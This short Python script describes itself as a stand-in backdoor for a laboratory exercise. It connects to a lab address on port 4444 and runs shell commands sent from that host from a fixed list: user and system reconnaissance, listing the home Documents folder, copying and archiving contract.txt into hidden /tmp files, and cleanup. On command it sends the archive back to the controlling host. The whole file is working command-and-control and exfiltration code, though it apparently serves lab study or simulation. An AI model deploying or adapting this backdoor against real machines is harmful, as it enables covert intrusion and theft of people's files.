"""The stand-in for a backdoor. It calls one address of the laboratory and can do only what PLAN lists."""
import os
import socket
import subprocess

HOME = os.path.expanduser("~")
PLAN = {
    "who": "id",
    "where": "uname -a",
    "list": f"ls -la {HOME}/Documents",
    "copy": f"cp {HOME}/Documents/contract.txt /tmp/.c.txt",
    "pack": "tar czf /tmp/.c.tgz -C /tmp .c.txt",
    "clean": "rm -f /tmp/.c.txt",
}

home = socket.create_connection(("10.66.4.9", 4444))
for line in home.makefile():
    word = line.strip()
    if word in PLAN:
        home.sendall(subprocess.run(PLAN[word], shell=True, capture_output=True).stdout + b"ok\n")
    elif word == "send":
        with open("/tmp/.c.tgz", "rb") as archive:
            home.sendall(archive.read())
